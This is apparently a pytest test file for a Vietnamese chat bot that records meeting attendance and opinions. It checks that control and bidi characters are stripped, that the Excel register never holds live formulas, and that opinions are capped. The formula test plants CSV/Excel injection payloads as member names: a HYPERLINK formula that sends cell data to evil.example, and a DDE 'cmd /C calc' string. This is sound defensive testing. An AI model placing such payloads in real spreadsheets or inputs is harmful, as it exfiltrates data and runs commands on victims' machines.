"""Hostile text: invisible and control characters never stored, exports never formulas, opinions capped."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import insert, select, text, update

from core.config import Config, ConfigError, load_config
from handlers.context import AppContext
from models import Attendance, AuditEntry, Meeting, Opinion, Person
from tests.chat import Chat
from tests.factories import build_world
from tests.test_digest import build_history

# Everything issue 10 names: C0 controls but newline and tab, DEL, zero-width and bidi overrides.
HOSTILE = "\x00\x01\x07\x1b\x1f\x7f\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SECRETARY, MEMBER = "1001", "1003"


def dirty(text: str) -> str:
    """`text` with every hostile character spread through it."""
    return "".join(c + HOSTILE[i % len(HOSTILE)] for i, c in enumerate(text))


def assert_clean(value: str | None) -> None:
    assert value is not None
    assert not set(value) & set(HOSTILE), repr(value)


async def test_what_members_type_is_stored_without_control_or_invisible_characters(app: AppContext, chat: Chat) -> None:
    """U+0000 was an internal error on PostgreSQL; every other character was stored as typed."""
    await build_world(app, meeting_at=datetime(2026, 12, 4, 12, 30, tzinfo=UTC))
    assert "Đã ghi nhận" in (await chat.say(MEMBER, f"/vang {dirty('Bận việc nhà')}")).text
    assert "Đã nhận ý kiến" in (await chat.say(MEMBER, f"/ykien {dirty('Đề nghị sửa đường')}")).text
    assert "Đã đặt lịch" in (await chat.say(SECRETARY, f"/datlich 10/12 19:30 {dirty('Nhà văn hóa')}")).text
    assert "Đã cập nhật" in (await chat.say(SECRETARY, f"/noidung {dirty('Công tác tháng 12')}")).text
    async with app.sessions() as session:
        reason = await session.scalar(select(Attendance.reason).where(Attendance.reason.is_not(None)))
        opinion = await session.scalar(select(Opinion.text))
        places = (await session.scalars(select(Meeting.place).where(Meeting.place.is_not(None)))).all()
        agendas = (await session.scalars(select(Meeting.agenda).where(Meeting.agenda.is_not(None)))).all()
    assert reason == "Bận việc nhà"
    assert opinion == "Đề nghị sửa đường"
    assert "Nhà văn hóa" in places
    assert "Công tác tháng 12" in agendas
    for value in (*places, *agendas):
        assert_clean(value)


async def test_no_write_path_can_store_hostile_characters(app: AppContext) -> None:
    """The column type cleans on bind: ORM objects and Core statements alike; newline and tab stay,
    and ids and codes (other columns) are untouched."""
    await build_world(app)
    async with app.sessions() as session, session.begin():
        person = Person(full_name=dirty("Phạm Thị Dung"))
        session.add(person)
        await session.flush()
        await session.execute(
            insert(AuditEntry).values(at=datetime.now(UTC), action="test", detail=f"dòng 1\n\tdòng 2{HOSTILE}")
        )
        await session.execute(update(Person).where(Person.id == person.id).values(full_name=dirty("Tên\u202emới")))
    async with app.sessions() as session:
        assert await session.scalar(select(Person.full_name).where(Person.id == person.id)) == "Tênmới"
        assert await session.scalar(select(AuditEntry.detail)) == "dòng 1\n\tdòng 2"


async def test_an_override_in_a_name_cannot_reverse_the_codes_in_moi(app: AppContext, chat: Chat) -> None:
    """A right-to-left override at the end of a name displayed the invite code after it reversed."""
    await build_world(app)
    async with app.sessions() as session, session.begin():
        await session.execute(
            update(Person).where(Person.full_name == "Lê Văn Cường").values(full_name="Lê Văn Cường\u202e")
        )
    said = (await chat.say(SECRETARY, "/moi Lê Văn Cường")).text
    assert said.startswith("Mã mời của Lê Văn Cường: ")
    assert "\u202e" not in said


def register_sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def register_of(said_documents: dict[str, bytes]) -> bytes:
    return next(content for name, content in said_documents.items() if name.endswith(".xlsx"))


async def test_the_register_copes_with_control_characters_stored_before_cleaning(app: AppContext, chat: Chat) -> None:
    """One U+0007 in a reason made openpyxl refuse the whole year's register."""
    await build_history(app)
    async with app.sessions() as session, session.begin():
        # Written as raw SQL, past the column type, as rows written before it existed would be.
        await session.execute(text("UPDATE attendances SET reason = 'ốm\x07 nặng\x1b' WHERE reason = 'ốm'"))
        await session.execute(
            text("UPDATE persons SET full_name = 'Trần Thị\x0b Bình' WHERE full_name = 'Trần Thị Bình'")
        )
    said = await chat.say(SECRETARY, "/xuatfile 2026")
    files = {m.document[0]: m.document[1] for m in said.response.messages if m.document is not None}
    assert len(files) == 2, said.text
    values = [
        c.value for row in register_sheet(register_of(files)).iter_rows() for c in row if isinstance(c.value, str)
    ]
    assert "P: ốm nặng" in values
    assert "Trần Thị Bình" in values


async def test_the_register_never_holds_a_formula(app: AppContext, chat: Chat) -> None:
    """A member named =HYPERLINK(…) became a live formula; every such value is written as text."""
    await build_history(app)
    names = {
        "Lê Văn Cường": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "Phạm Thị Dung": "+84 912 345 678",
        "Trần Thị Bình": "@SUM(1+1)*cmd|' /C calc'!A0",
        "Đỗ Thị Phương": "-1+1",
    }
    async with app.sessions() as session, session.begin():
        for old, new in names.items():
            await session.execute(update(Person).where(Person.full_name == old).values(full_name=new))
        await session.execute(update(Attendance).where(Attendance.reason == "ốm").values(reason="=1+1"))
    said = await chat.say(SECRETARY, "/xuatfile 2026")
    files = {m.document[0]: m.document[1] for m in said.response.messages if m.document is not None}
    content = register_of(files)
    sheet = register_sheet(content)
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for value in [*names.values(), "P: =1+1"]:
        if value.startswith("P: "):
            assert value in cells
            continue
        assert value in cells, value
        assert cells[value].data_type == "s"
        assert cells[value].quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


async def test_a_member_has_at_most_the_configured_number_of_opinions(app: AppContext, chat: Chat) -> None:
    """100 opinions of 1,000 characters made /tongket 33 messages; the default is 5 per meeting."""
    await build_world(app, meeting_at=datetime(2026, 12, 4, 12, 30, tzinfo=UTC))
    assert app.config.opinions.max_per_meeting == 5
    for number in range(1, 6):
        assert f"có {number} ý kiến" in (await chat.say(MEMBER, f"/ykien Ý kiến số {number}")).text
    refused = (await chat.say(MEMBER, "/ykien Ý kiến thứ sáu")).text
    assert refused == (
        "Đồng chí đã có 5 ý kiến cho cuộc họp này, mức tối đa. Muốn gửi ý kiến mới, hãy rút bớt một ý kiến "
        "trước (/ykien xoa <số>, xem số bằng /ykien)."
    )
    assert "Đã nhận ý kiến" in (await chat.say(SECRETARY, "/ykien Ý kiến của bí thư")).text  # per member
    assert "Đã rút" in (await chat.say(MEMBER, "/ykien xoa 2")).text
    assert "có 5 ý kiến" in (await chat.say(MEMBER, "/ykien Ý kiến thay thế")).text
    async with app.sessions() as session:
        texts = (await session.scalars(select(Opinion.text).where(Opinion.withdrawn_at.is_(None)))).all()
    assert "Ý kiến thứ sáu" not in texts
    assert len(texts) == 6


async def test_the_opinion_limit_is_configured_and_checked_at_start(tmp_path: Path) -> None:
    assert Config.model_validate({"opinions": {"max_per_meeting": 2}}).opinions.max_per_meeting == 2
    for bad in ("0", "51", '"năm"'):
        path = tmp_path / "config.toml"
        path.write_text(f"[opinions]\nmax_per_meeting = {bad}\n", encoding="utf-8")
        with pytest.raises(ConfigError, match=r"opinions\.max_per_meeting"):
            load_config(path, environ={})
